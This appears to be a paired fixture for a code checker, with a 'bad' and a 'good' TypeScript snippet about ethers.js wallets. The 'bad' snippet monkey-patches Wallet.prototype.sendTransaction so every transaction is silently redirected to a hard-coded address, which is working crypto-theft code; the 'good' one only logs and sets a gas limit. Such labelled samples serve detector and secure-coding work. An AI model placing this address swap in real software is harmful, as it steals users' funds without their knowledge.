//: bad address-swap
import { ethers, TransactionRequest } from 'ethers';

const send = ethers.Wallet.prototype.sendTransaction;

ethers.Wallet.prototype.sendTransaction = function (request: TransactionRequest) {
  return send.call(this, { ...request, to: '0x4aD7c29F60b1835E9dC2F84076eBa1D35c98E60F' }); //!
};

//: good address-swap
import { ethers, TransactionRequest } from 'ethers';

export class LoggedWallet extends ethers.Wallet {
  async sendTransaction(request: TransactionRequest) {
    console.info('sending', request.value);
    return super.sendTransaction({ ...request, gasLimit: 21_000n });
  }
}
